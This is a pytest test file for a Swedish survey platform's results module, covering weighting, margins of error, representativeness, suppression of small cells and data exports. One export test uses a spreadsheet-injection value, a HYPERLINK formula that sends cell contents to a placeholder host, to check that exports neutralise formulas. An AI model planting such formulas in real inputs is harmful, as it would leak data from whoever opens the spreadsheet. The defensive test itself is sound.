"""Survey results: counts, margins of error, representativeness, weighting and exports.

Every expected figure is worked out by hand from the respondents created here.
"""

import csv
import io
import math
import random
from datetime import timedelta
from decimal import Decimal
from typing import Any

import numpy as np
import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from delaktig.core.models import AuditEntry
from delaktig.participation.models import Phase
from delaktig.population.models import PopulationTable
from delaktig.surveys import analysis, services
from delaktig.surveys.models import Answer, Response
from delaktig.surveys.results import QuestionResult, SurveyResults, survey_results
from tests.factories import UserFactory, role
from tests.survey_helpers import Built, answer_directly, build_survey, population

pytestmark = pytest.mark.django_db

ADULT = ["18–29", "30–44", "45–64", "65–79", "80+"]
BUSS, BIL, CYKEL = 0, 1, 2
RAGUNDA, OSTERSUND, NOWHERE = 0, 1, None

# (how many, sex, age group, municipality, transport). 30 women and 10 men; nobody is 80+.
KNOWN_MIX: list[tuple[int, str, str, int | None, int]] = [
    (10, "kvinna", "18–29", RAGUNDA, BUSS),
    (8, "kvinna", "30–44", OSTERSUND, BUSS),
    (9, "kvinna", "45–64", OSTERSUND, BIL),
    (3, "kvinna", "65–79", NOWHERE, CYKEL),
    (6, "man", "30–44", OSTERSUND, BIL),
    (4, "man", "18–29", RAGUNDA, CYKEL),
]


def answer_mix(built: Built, mix: list[tuple[int, str, str, int | None, int]]) -> None:
    for count, sex, age, place, transport in mix:
        for _i in range(count):
            answer_directly(
                built,
                transport=transport,
                sex=sex,
                age=age,
                place=None if place is None else built.places[place],
            )


def unsubmitted(built: Built, transport: int = BUSS) -> Response:
    response = Response.objects.create(survey=built.survey, sex="kvinna", age_group="18–29")
    choice = list(built.transport.choices.all())[transport]
    services.response_save_answers(
        response=response, questions=[built.transport], values={built.transport.pk: choice.pk}
    )
    return response


def known_mix_survey() -> Built:
    built = build_survey()
    answer_mix(built, KNOWN_MIX)
    unsubmitted(built)
    unsubmitted(built)
    return built


def official(built: Built) -> Client:
    client = Client()
    client.force_login(role(UserFactory(), "official", built.organisation))
    return client


def transport_result(results: SurveyResults, built: Built) -> QuestionResult:
    return next(r for r in results.questions if r.question.pk == built.transport.pk)


def moe(p: float, n: int, design_effect: float = 1.0) -> float:
    return 1.96 * math.sqrt(p * (1 - p) / n * design_effect)


def save_weighting(
    built: Built, table: PopulationTable, margins: list[str], trim: str = ""
) -> None:
    client = official(built)
    saved = client.post(
        reverse("surveys:results", args=[built.survey.module_id]),
        {
            "population_table": table.pk,
            "margins": margins,
            "target_age_groups": ADULT,
            "trim_upper": trim,
        },
    )
    assert saved.status_code == 302
    built.survey.refresh_from_db()


# --- Counts and margins --------------------------------------------------------------------


def test_unweighted_counts_shares_and_margins_of_error() -> None:
    built = known_mix_survey()
    results = survey_results(built.survey)
    assert (results.respondents, results.unfinished) == (40, 2)
    assert results.weighting is None and results.representativeness == []
    transport = transport_result(results, built)
    assert transport.answered == 40
    assert [c.label for c, _s in transport.choices] == ["Buss", "Bil", "Cykel"]
    assert [s.count for _c, s in transport.choices] == [18, 15, 7]
    for (_c, share), p in zip(transport.choices, [0.45, 0.375, 0.175], strict=True):
        assert share.share == pytest.approx(p)
        assert share.margin == pytest.approx(moe(p, 40), rel=1e-4)
        assert share.weighted_share is None
    # Nobody answered the scale question: zero counts, no division by zero.
    rating = next(r for r in results.questions if r.question.pk == built.rating.pk)
    assert rating.answered == 0
    assert [(s.count, s.share, s.margin) for _c, s in rating.choices] == [(0, 0.0, 0.0)] * 4


def test_weighting_by_sex_gives_the_post_stratified_share_and_kish_design_effect() -> None:
    built = known_mix_survey()
    table = population(built.organisation)  # 5,000 women and 5,000 men aged 18+
    save_weighting(built, table, ["sex"])
    assert built.survey.weighting_margins == ["sex"]
    assert built.survey.target_age_groups == ADULT
    assert AuditEntry.objects.filter(action="survey.weighting").count() == 1

    results = survey_results(built.survey)
    weighting = results.weighting
    assert weighting is not None and weighting.error is None and weighting.outcome is not None
    assert (weighting.included, weighting.excluded, weighting.margins) == (40, 0, ["sex"])
    outcome = weighting.outcome
    # Women carry half the population between 30 of them, men half between 10.
    woman, man = 5000 / 30, 5000 / 10
    assert sorted(outcome.weights) == pytest.approx([woman] * 30 + [man] * 10)
    weights = [woman] * 30 + [man] * 10
    kish = len(weights) * sum(w * w for w in weights) / sum(weights) ** 2
    assert kish == pytest.approx(4 / 3)
    assert outcome.design_effect == pytest.approx(kish)
    assert outcome.efficiency == pytest.approx(1 / kish)
    assert outcome.effective_n == pytest.approx(40 / kish)
    assert not outcome.trimmed

    transport = transport_result(results, built)
    # Women: 18 Buss, 9 Bil, 3 Cykel of 30. Men: 0 Buss, 6 Bil, 4 Cykel of 10.
    expected = [
        18 / 30 * 0.5 + 0 / 10 * 0.5,
        9 / 30 * 0.5 + 6 / 10 * 0.5,
        3 / 30 * 0.5 + 4 / 10 * 0.5,
    ]
    assert expected == pytest.approx([0.3, 0.45, 0.25])
    for (_c, share), p in zip(transport.choices, expected, strict=True):
        assert share.weighted_share == pytest.approx(p)
        assert share.weighted_margin == pytest.approx(moe(p, 40, kish), rel=1e-4)
    # Unweighted figures are unchanged by the weighting.
    assert [s.count for _c, s in transport.choices] == [18, 15, 7]

    html = official(built).get(reverse("surveys:results", args=[built.survey.module_id]))
    page = html.content.decode()
    assert html.status_code == 200
    assert "<dt>Designeffekt (Kish)</dt><dd>1,33</dd>" in page
    assert "<td>18</td><td>45,0 %</td><td>±15,4</td><td>30,0 %</td>" in page


def test_respondents_who_did_not_give_their_sex_keep_their_sample_share() -> None:
    built = build_survey()
    answer_mix(
        built,
        [
            (30, "kvinna", "30–44", OSTERSUND, BUSS),
            (10, "man", "30–44", OSTERSUND, BIL),
            (5, "annat", "30–44", OSTERSUND, CYKEL),
            (3, "vill_inte_uppge", "30–44", OSTERSUND, CYKEL),
            (2, "", "30–44", OSTERSUND, CYKEL),
        ],
    )
    column, targets = analysis.targets_keeping_unknown(
        ["kvinna"] * 30 + ["man"] * 10 + [None] * 10, {"kvinna": 5000.0, "man": 5000.0}
    )
    assert column.count(analysis.UNKNOWN) == 10
    # The ten who did not say are a fifth of the sample and keep a fifth of the population.
    assert targets == pytest.approx({"kvinna": 4000.0, "man": 4000.0, analysis.UNKNOWN: 2000.0})

    save_weighting(built, population(built.organisation), ["sex"])
    results = survey_results(built.survey)
    assert results.weighting is not None and results.weighting.outcome is not None
    weights = results.weighting.outcome.weights
    assert weights.sum() == pytest.approx(10000)
    sexes = list(Response.objects.filter(survey=built.survey).values_list("sex", flat=True))
    by_sex: dict[str, list[float]] = {}
    for sex, weight in zip(sexes, weights.tolist(), strict=True):
        by_sex.setdefault(sex, []).append(weight)
    assert by_sex["kvinna"] == pytest.approx([4000 / 30] * 30)
    assert by_sex["man"] == pytest.approx([400.0] * 10)
    unknown = by_sex["annat"] + by_sex["vill_inte_uppge"] + by_sex[""]
    assert unknown == pytest.approx([200.0] * 10)
    assert sum(unknown) / weights.sum() == pytest.approx(10 / 50)
    transport = transport_result(results, built)
    assert [s.share for _c, s in transport.choices] == pytest.approx([0.6, 0.2, 0.2])
    assert [s.weighted_share for _c, s in transport.choices] == pytest.approx([0.4, 0.4, 0.2])
    # The representativeness comparison counts only those who said.
    (by_sex_view,) = [v for v in results.representativeness if v.variable == "sex"]
    assert by_sex_view.comparison.unknown == 10
    assert [g.respondents for g in by_sex_view.comparison.groups] == [30, 10]


# --- Representativeness ----------------------------------------------------------------------


def test_representativeness_against_the_population() -> None:
    built = known_mix_survey()
    answer_mix(built, [(6, "kvinna", "0–17", 0, 0)])  # outside the target group's ages
    table = population(built.organisation)
    built.survey.population_table = table
    built.survey.save()
    results = survey_results(built.survey)
    views = {v.variable: v.comparison for v in results.representativeness}
    assert list(views) == ["sex", "age", "municipality"]

    sex = views["sex"]
    assert [(g.label, g.respondents, g.population) for g in sex.groups] == [
        ("kvinna", 30, 5000.0),
        ("man", 10, 5000.0),
    ]
    assert [g.respondent_share for g in sex.groups] == pytest.approx([0.75, 0.25])
    assert [g.population_share for g in sex.groups] == pytest.approx([0.5, 0.5])
    assert [g.response_rate_ratio for g in sex.groups] == pytest.approx([1.5, 0.5])
    assert sex.index == pytest.approx(1 - (0.25 + 0.25) / 2)
    assert sex.unknown == 0

    # Ragunda has 2,000 of the 10,000 adults; 14 of the 37 who gave a municipality live there.
    place = views["municipality"]
    assert [(g.label, g.respondents, g.population) for g in place.groups] == [
        ("2303", 14, 2000.0),
        ("2380", 23, 8000.0),
    ]
    assert [g.respondent_share for g in place.groups] == pytest.approx([14 / 37, 23 / 37])
    assert [g.population_share for g in place.groups] == pytest.approx([0.2, 0.8])
    assert [g.response_rate_ratio for g in place.groups] == pytest.approx(
        [(14 / 37) / 0.2, (23 / 37) / 0.8]
    )
    assert place.index == pytest.approx(1 - (abs(14 / 37 - 0.2) + abs(23 / 37 - 0.8)) / 2)
    assert place.unknown == 3

    age = views["age"]
    assert [g.label for g in age.groups] == ADULT
    assert [g.respondents for g in age.groups] == [14, 14, 9, 3, 0]
    shares = [14 / 40, 14 / 40, 9 / 40, 3 / 40, 0.0]
    assert [g.respondent_share for g in age.groups] == pytest.approx(shares)
    assert [g.population_share for g in age.groups] == pytest.approx([0.2] * 5)
    assert [g.response_rate_ratio for g in age.groups] == pytest.approx([s / 0.2 for s in shares])
    assert age.index == pytest.approx(1 - sum(abs(s - 0.2) for s in shares) / 2)
    assert age.index == pytest.approx(0.675)

    # Every respondent is in each table, said nothing, or is outside the target group, and
    # the page says how many are outside (a QA finding: the tables did not add up).
    outside = results.respondents - (sum(g.respondents for g in sex.groups) + sex.unknown)
    for view in views.values():
        assert sum(g.respondents for g in view.groups) + view.unknown + outside == (
            results.respondents
        )
    assert outside > 0
    shown = outside if outside >= results.min_group_size else None
    assert results.population_outside == shown == 6
    page = official(built).get(reverse("surveys:results", args=[built.survey.module_id]))
    assert (
        "6 svarande utanför målgruppen (andra åldrar, eller bor i en annan kommun) ingår inte"
        in (page.content.decode())
    )


def test_a_weighting_that_cannot_be_done_is_explained_on_the_results_page() -> None:
    built = known_mix_survey()
    save_weighting(built, population(built.organisation), ["age"])  # nobody is 80+
    message = (
        "Åldersgrupp: det finns befolkning men inga svar i 80+. Ta bort variabeln ur "
        "vägningen eller gruppen ur målpopulationen."
    )
    results = survey_results(built.survey)
    assert results.weighting is not None
    assert results.weighting.outcome is None and results.weighting.error == message
    transport = transport_result(results, built)
    assert [s.weighted_share for _c, s in transport.choices] == [None, None, None]
    assert [s.count for _c, s in transport.choices] == [18, 15, 7]
    page = official(built).get(reverse("surveys:results", args=[built.survey.module_id]))
    assert page.status_code == 200
    assert f'<p class="notice">{message}</p>' in page.content.decode()


# --- Breakdowns and trimming -------------------------------------------------------------------


def rows_of(result: QuestionResult, title: str) -> list[tuple[str, int | None, list[int | None]]]:
    (breakdown,) = [b for b in result.breakdowns if b.title == title]
    return [(r.label, r.total, [cell.count for cell, _s in r.cells]) for r in breakdown.rows]


def test_breakdowns_hide_small_cells_and_small_groups() -> None:
    built = known_mix_survey()
    transport = transport_result(survey_results(built.survey), built)
    # Women 18/9/3: the 3 is hidden, and the 9 with it so it cannot be worked out.
    # Men 0/6/4: the 4 is hidden, the 6 with it; the zero is shown.
    assert rows_of(transport, "Kön") == [
        ("Kvinna", 30, [18, None, None]),
        ("Man", 10, [0, None, None]),
    ]
    # Three people aged 65–79 are hidden whole, zeros too (a zero would say what all three
    # answered), and so is the next smallest group, or their total and answers could be
    # worked out from the totals shown beside the table.
    assert rows_of(transport, "Åldersgrupp") == [
        ("0–17", 0, [0, 0, 0]),
        ("18–29", 14, [None, 0, None]),
        ("30–44", 14, [8, 6, 0]),
        ("45–64", None, [None, None, None]),
        ("65–79", None, [None, None, None]),
        ("80+", 0, [0, 0, 0]),
    ]
    assert rows_of(transport, "Kommun") == [
        ("Ragunda", None, [None, None, None]),
        ("Östersund", 23, [8, 15, 0]),
        ("Inget svar", None, [None, None, None]),
    ]
    (by_place,) = [b for b in transport.breakdowns if b.title == "Kommun"]
    assert [s for _c, s in by_place.rows[1].cells] == pytest.approx([8 / 23, 15 / 23, 0.0])
    assert [s for _c, s in by_place.rows[2].cells] == [None, None, None]
    page = official(built).get(reverse("surveys:results", args=[built.survey.module_id]))
    html = page.content.decode()
    assert (
        '<th scope="row">65–79</th><td>–<span class="visually-hidden"> visas inte</span></td>'
        in html
    )


def test_a_group_under_five_hides_its_total_even_when_two_cells_are_hidden() -> None:
    built = build_survey()
    answer_mix(
        built,
        [
            (1, "man", "30–44", OSTERSUND, BUSS),
            (2, "man", "30–44", OSTERSUND, BIL),
            (6, "kvinna", "30–44", OSTERSUND, BUSS),
        ],
    )
    transport = transport_result(survey_results(built.survey), built)
    # Three men: shown, their number would follow from the nine who answered, and their
    # answers from each answer's total. So both groups are hidden.
    assert rows_of(transport, "Kön") == [
        ("Kvinna", None, [None, None, None]),
        ("Man", None, [None, None, None]),
    ]


def test_trimming_caps_the_weights() -> None:
    sexes: list[str | None] = [*["kvinna"] * 45, *["man"] * 5]
    columns = {"sex": sexes}
    targets = {"sex": {"kvinna": 5000.0, "man": 5000.0}}
    untrimmed = analysis.weight_respondents(columns, targets)
    assert not untrimmed.trimmed
    assert untrimmed.weights.max() / untrimmed.weights.mean() == pytest.approx(5.0)
    trimmed = analysis.weight_respondents(columns, targets, trim_upper=2.0)
    assert trimmed.trimmed
    weights = trimmed.weights
    assert weights.max() <= 2.0 * weights.mean() * (1 + 1e-9)
    assert weights.max() == pytest.approx(2.0 * weights.mean())
    assert weights.sum() == pytest.approx(10000)
    assert trimmed.design_effect == pytest.approx(
        len(weights) * float(np.sum(weights**2)) / float(weights.sum()) ** 2
    )
    assert trimmed.design_effect < untrimmed.design_effect
    assert trimmed.max_relative_error > 0.1  # the margins are now met only roughly
    # Below the cap nothing is trimmed.
    assert not analysis.weight_respondents(columns, targets, trim_upper=6.0).trimmed


def test_a_survey_with_a_trim_setting_reports_trimmed_weights() -> None:
    built = known_mix_survey()
    save_weighting(built, population(built.organisation), ["sex"], trim="1,5")
    assert built.survey.trim_upper == 1.5
    results = survey_results(built.survey)
    assert results.weighting is not None and results.weighting.outcome is not None
    outcome = results.weighting.outcome
    assert outcome.trimmed
    assert outcome.weights.max() <= 1.5 * outcome.weights.mean() * (1 + 1e-9)
    assert outcome.weights.sum() == pytest.approx(10000)


# --- Exports ----------------------------------------------------------------------------------


def export(built: Built, kind: str, client: Client | None = None) -> Any:
    client = client or official(built)
    return client.get(reverse("surveys:export", args=[built.survey.module_id, kind]))


def csv_sections(content: bytes) -> dict[str, list[list[str]]]:
    """The '# Title' tables of an aggregates CSV: title → rows, header first."""
    sections: dict[str, list[list[str]]] = {}
    current: list[list[str]] = []
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        if len(row) == 1 and row[0].startswith("# "):
            current = sections.setdefault(row[0][2:], [])
        elif row:
            current.append(row)
    return sections


def test_aggregates_csv_has_the_counts_and_shares() -> None:
    built = known_mix_survey()
    reply = export(built, "csv")
    assert reply.status_code == 200
    assert reply["Content-Type"] == "text/csv; charset=utf-8"
    module = built.survey.module_id
    assert reply["Content-Disposition"] == f'attachment; filename="enkat-{module}-resultat.csv"'
    assert reply.content.startswith("\ufeff".encode())
    tables = csv_sections(reply.content)
    assert list(tables) == ["Andelar", "Nedbrytningar", "Tal", "Representativitet"]
    header, *rows = tables["Andelar"]
    assert header[:5] == ["fråga_id", "fråga", "svarsalternativ", "antal", "svarande_på_frågan"]
    transport = [r for r in rows if r[0] == str(built.transport.pk)]
    assert [(r[2], r[3], r[4], r[5]) for r in transport] == [
        ("Buss", "18", "40", "0.45"),
        ("Bil", "15", "40", "0.375"),
        ("Cykel", "7", "40", "0.175"),
    ]
    assert float(transport[0][6]) == pytest.approx(moe(0.45, 40), abs=1e-4)
    assert transport[0][7:] == ["", ""]  # not weighted
    # The breakdowns keep the suppression: "–" instead of small counts.
    men = [
        (r[5], r[6])
        for r in tables["Nedbrytningar"][1:]
        if r[0] == str(built.transport.pk) and r[2] == "Kön" and r[3] == "Man"
    ]
    assert men == [("Buss", "0"), ("Bil", "–"), ("Cykel", "–")]


def test_aggregates_xlsx_has_the_same_counts() -> None:
    built = known_mix_survey()
    save_weighting(built, population(built.organisation), ["sex"])
    reply = export(built, "xlsx")
    assert reply.status_code == 200
    assert reply["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    workbook = load_workbook(io.BytesIO(reply.content))
    assert workbook.sheetnames == [
        "Andelar",
        "Nedbrytningar",
        "Tal",
        "Representativitet",
        "Vägning",
    ]
    rows = list(workbook["Andelar"].iter_rows(values_only=True))
    assert rows[0][:4] == ("fråga_id", "fråga", "svarsalternativ", "antal")
    transport = [r for r in rows[1:] if r[0] == built.transport.pk]
    assert [(r[2], r[3], r[4]) for r in transport] == [
        ("Buss", 18, 40),
        ("Bil", 15, 40),
        ("Cykel", 7, 40),
    ]
    assert [r[7] for r in transport] == pytest.approx([0.3, 0.45, 0.25])
    weighting: dict[Any, Any] = dict(list(workbook["Vägning"].iter_rows(values_only=True))[1:])
    assert weighting["vägningsvariabler"] == "sex"
    assert weighting["svar_i_vägningen"] == 40
    assert weighting["designeffekt_kish"] == pytest.approx(1.3333)
    representativeness = list(workbook["Representativitet"].iter_rows(values_only=True))
    assert ("Kön", "Kvinna", 30, 0.75, 5000, 0.5, 1.5, 0.75) in representativeness


def test_raw_csv_has_one_anonymous_row_per_submitted_response() -> None:
    built = known_mix_survey()
    people = [UserFactory() for _i in range(3)]
    for person, response in zip(people, Response.objects.filter(survey=built.survey), strict=False):
        Response.objects.filter(pk=response.pk).update(respondent=person)
    reply = export(built, "raw")
    assert reply.status_code == 200
    module = built.survey.module_id
    assert reply["Content-Disposition"] == f'attachment; filename="enkat-{module}-svar.csv"'
    text = reply.content.decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert header == [
        "rad",
        "åldersgrupp",
        "kön",
        "kommun",
        "språk",
        f"q{built.transport.pk}: Hur reser du oftast?",
        f"q{built.wishes.pk}: Vad vill du ha mer av?",
        f"q{built.bus_often.pk}: Hur ofta tar du bussen?",
        f"q{built.rating.pk}: Hur nöjd är du med trafiken?",
        f"q{built.free.pk}: Vad skulle göra resan bättre?",
        f"q{built.trips.pk}: Hur många resor gör du i veckan?",
    ]
    assert len(rows) == 40  # the two unsubmitted responses are left out
    assert [r[0] for r in rows] == [str(i) for i in range(1, 41)]
    transport = [r[5] for r in rows]
    assert (transport.count("Buss"), transport.count("Bil"), transport.count("Cykel")) == (
        18,
        15,
        7,
    )
    assert sum(1 for r in rows if r[1:4] == ["65–79", "kvinna", ""]) == 3
    assert sum(1 for r in rows if r[1:4] == ["18–29", "man", "Ragunda"]) == 4
    for person in people:
        assert person.email not in text
    assert "@" not in text
    assert str(timezone.localdate().year) not in text  # no timestamps


def test_raw_csv_keeps_a_number_answer_of_zero() -> None:
    built = build_survey()
    answer_directly(built, transport=BUSS, trips=0)
    header, row = list(csv.reader(io.StringIO(export(built, "raw").content.decode("utf-8-sig"))))
    trips = row[header.index(f"q{built.trips.pk}: Hur många resor gör du i veckan?")]
    assert trips != "" and Decimal(trips) == 0


def test_raw_csv_does_not_let_an_answer_become_a_spreadsheet_formula() -> None:
    built = build_survey(access="anonymous")
    formula = '=HYPERLINK("http://example.com/?x="&A1,"Klicka")'
    answer_directly(built, transport=BUSS, text=formula)
    header, row = list(csv.reader(io.StringIO(export(built, "raw").content.decode("utf-8-sig"))))
    cell = row[header.index(f"q{built.free.pk}: Vad skulle göra resan bättre?")]
    assert formula in cell  # the answer is still there to read …
    assert not cell.startswith(("=", "+", "-", "@"))  # … but not as a formula


def test_raw_csv_order_cannot_be_reproduced_from_the_survey_id() -> None:
    built = build_survey()
    for trips in range(1, 13):
        answer_directly(built, transport=BUSS, trips=trips)
    header, *rows = list(csv.reader(io.StringIO(export(built, "raw").content.decode("utf-8-sig"))))
    column = header.index(f"q{built.trips.pk}: Hur många resor gör du i veckan?")
    exported = [int(Decimal(r[column])) for r in rows]
    predicted = list(range(1, 13))  # answering order, as the responses' ids run
    random.Random(built.survey.pk).shuffle(predicted)
    assert exported != predicted


def test_the_process_registry_exports_work_too() -> None:
    built = known_mix_survey()
    client = official(built)
    process = built.survey.module.process
    url = reverse("staff:export", args=[process.pk, built.survey.module_id, "aggregates_csv"])
    reply = client.get(url)
    assert reply.status_code == 200
    assert reply.content == export(built, "csv", client).content
    rows = csv_sections(reply.content)["Andelar"][1:]
    assert [r[3] for r in rows if r[0] == str(built.transport.pk)] == ["18", "15", "7"]
    xlsx = client.get(
        reverse("staff:export", args=[process.pk, built.survey.module_id, "aggregates_xlsx"])
    )
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content))["Andelar"]
    rows_xlsx = sheet.iter_rows(min_row=2, values_only=True)
    counts = [r[3] for r in rows_xlsx if r[0] == built.transport.pk]
    assert counts == [18, 15, 7]
    # A resident gets nothing.
    resident = Client()
    resident.force_login(UserFactory())
    assert resident.get(url).status_code == 403


# --- Public results ---------------------------------------------------------------------------


def test_public_results_only_after_closing_and_when_made_public() -> None:
    built = known_mix_survey()
    url = reverse("surveys:results_public", args=[built.survey.module_id])
    built.survey.results_public = True
    built.survey.save()
    assert Client().get(url).status_code == 404  # still open

    Phase.objects.filter(module_id=built.survey.module_id).update(
        ends_at=timezone.now() - timedelta(hours=1)
    )
    built.survey.results_public = False
    built.survey.save()
    assert Client().get(url).status_code == 404  # closed but not public

    built.survey.results_public = True
    built.survey.save()
    page = Client().get(url)
    assert page.status_code == 200
    html = page.content.decode()
    assert "40 personer har skickat in svar." in html
    assert "påbörjade svar" not in html  # unfinished responses are for staff only
    assert '<th scope="row" lang="sv">Buss</th><td>18</td><td>45,0 %</td>' in html
    assert '<th scope="row" lang="sv">Bil</th><td>15</td><td>37,5 %</td>' in html
    assert '<th scope="row" lang="sv">Cykel</th><td>7</td><td>17,5 %</td>' in html
    assert "Teman i svaren" not in html


def test_public_results_are_computed_once_and_again_when_the_answers_change(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from delaktig.surveys import results

    built = known_mix_survey()
    built.survey.results_public = True
    built.survey.save()
    Phase.objects.filter(module_id=built.survey.module_id).update(
        ends_at=timezone.now() - timedelta(hours=1)
    )
    url = reverse("surveys:results_public", args=[built.survey.module_id])
    computed: list[int] = []
    real = results.survey_results

    def counting(survey: Any, **kwargs: Any) -> SurveyResults:
        computed.append(survey.pk)
        return real(survey, **kwargs)

    rendered: list[str] = []
    real_render = results.render_to_string

    def counting_render(name: str, context: Any) -> str:
        rendered.append(name)
        return real_render(name, context)

    monkeypatch.setattr(results, "survey_results", counting)
    monkeypatch.setattr(results, "render_to_string", counting_render)
    assert "40 personer har skickat in svar." in Client().get(url).content.decode()
    assert "40 personer har skickat in svar." in Client().get(url).content.decode()
    assert len(computed) == 1
    # The tables are rendered once too, and kept with what was computed.
    assert rendered == ["surveys/includes/results_body.html"]
    # A response removed (an account deleted) shows at once …
    Response.objects.filter(survey=built.survey, submitted_at__isnull=False).first().delete()
    assert "39 personer har skickat in svar." in Client().get(url).content.decode()
    assert len(computed) == 2
    # … and each language has its own.
    english = Client()
    english.cookies["delaktig_sprak"] = "en"
    assert "39" in english.get(url).content.decode()
    assert len(computed) == 3


# --- Query count ------------------------------------------------------------------------------


def test_the_results_page_makes_as_many_queries_for_60_responses_as_for_10() -> None:
    built = build_survey()
    save_weighting(built, population(built.organisation), ["sex", "municipality"])
    client = official(built)
    url = reverse("surveys:results", args=[built.survey.module_id])

    def add(count: int) -> None:
        for i in range(count):
            answer_directly(
                built,
                transport=i % 3,
                sex=["kvinna", "man", "annat", ""][i % 4],
                age=ADULT[i % 4],
                place=built.places[(i // 4) % 2],
                rating=i % 4,
                text=f"Svar nummer {i}",
                trips=i % 9,
            )

    add(10)
    assert client.get(url).status_code == 200  # warms caches that are not per request
    with CaptureQueriesContext(connection) as ten:
        page = client.get(url)
    assert page.status_code == 200
    assert page.context["results"].respondents == 10
    assert page.context["results"].weighting.outcome is not None
    add(50)
    with CaptureQueriesContext(connection) as sixty:
        page = client.get(url)
    assert page.context["results"].respondents == 60
    assert page.context["results"].weighting.outcome is not None
    assert len(sixty.captured_queries) == len(ten.captured_queries)
    assert Answer.objects.filter(response__survey=built.survey).count() == 60 * 4
